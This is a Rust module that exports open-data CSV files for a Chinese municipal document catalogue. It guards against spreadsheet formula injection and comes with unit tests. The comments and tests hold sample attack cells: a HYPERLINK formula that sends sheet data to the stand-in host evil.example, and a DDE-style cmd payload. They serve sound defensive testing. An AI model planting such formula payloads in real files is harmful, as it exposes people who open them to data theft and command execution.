//! The CSV files of the open data (`catalogue.csv`, `register.csv`): UTF-8 with a BOM, and no
//! cell a spreadsheet would run as a formula.
//!
//! Offices open these files in Excel or WPS. A cell that starts with `=`, `+`, `-` or `@` (or a
//! tab, carriage return or NUL before one) is read there as a formula, so a title such as
//! `=HYPERLINK("http://evil.example/?x="&A1,"点击查看")` would become a live link that sends the
//! sheet's data away (CSV or formula injection, OWASP). Such a cell gets a leading `'`: the
//! spreadsheet's own "this is text" mark, shown as the text itself, as OWASP and ASVS 1.2.10
//! advise. A leading tab, the other common advice, is plain whitespace: import dialogs and
//! programs trim it, and the formula is live again. The full-width signs `＝＋－＠` are treated the
//! same way, as a precaution for input methods and programs that read them as the half-width
//! ones. The JSON files keep the exact values: they are data for programs, not sheets.

use std::borrow::Cow;

/// The cell as written, or with a leading `'` when a spreadsheet would read it as a formula.
pub fn spreadsheet_safe(cell: &str) -> Cow<'_, str> {
    match cell.chars().next() {
        Some('=' | '+' | '-' | '@' | '\t' | '\r' | '\n' | '\0' | '＝' | '＋' | '－' | '＠') => {
            Cow::Owned(format!("'{cell}"))
        }
        _ => Cow::Borrowed(cell),
    }
}

/// A CSV file: the BOM (so spreadsheet programs read the Chinese text as UTF-8), the header,
/// then the rows, every cell passed through [`spreadsheet_safe`].
pub fn csv_file<R, C>(header: &[&str], rows: R) -> anyhow::Result<Vec<u8>>
where
    R: IntoIterator<Item = C>,
    C: IntoIterator,
    C::Item: AsRef<str>,
{
    let mut w = csv::Writer::from_writer(vec![0xEF, 0xBB, 0xBF]);
    w.write_record(header)?;
    for row in rows {
        w.write_record(
            row.into_iter()
                .map(|c| spreadsheet_safe(c.as_ref()).into_owned().into_bytes()),
        )?;
    }
    w.into_inner().map_err(|e| anyhow::anyhow!("csv: {e}"))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn neutralises_formula_starts_and_keeps_everything_else() {
        for (cell, safe) in [
            (
                "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"点击查看\")",
                "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"点击查看\")",
            ),
            ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
            ("-2+3", "'-2+3"),
            ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
            ("\t=1+1", "'\t=1+1"),
            ("\r=1+1", "'\r=1+1"),
            ("＝1+1", "'＝1+1"),
            ("承德市人民政府关于…的通知", "承德市人民政府关于…的通知"),
            ("13502/2022-26273", "13502/2022-26273"),
            ("2022-06-10", "2022-06-10"),
            ("a=b", "a=b"),
            ("", ""),
        ] {
            assert_eq!(spreadsheet_safe(cell), safe, "{cell}");
        }
    }

    #[test]
    fn writes_bom_header_and_quoted_cells() {
        let bytes = csv_file(&["名称", "内容概述"], [["=1+1", "正常, 带逗号"]]).unwrap();
        assert_eq!(
            String::from_utf8(bytes).unwrap(),
            "\u{feff}名称,内容概述\n'=1+1,\"正常, 带逗号\"\n"
        );
    }
}
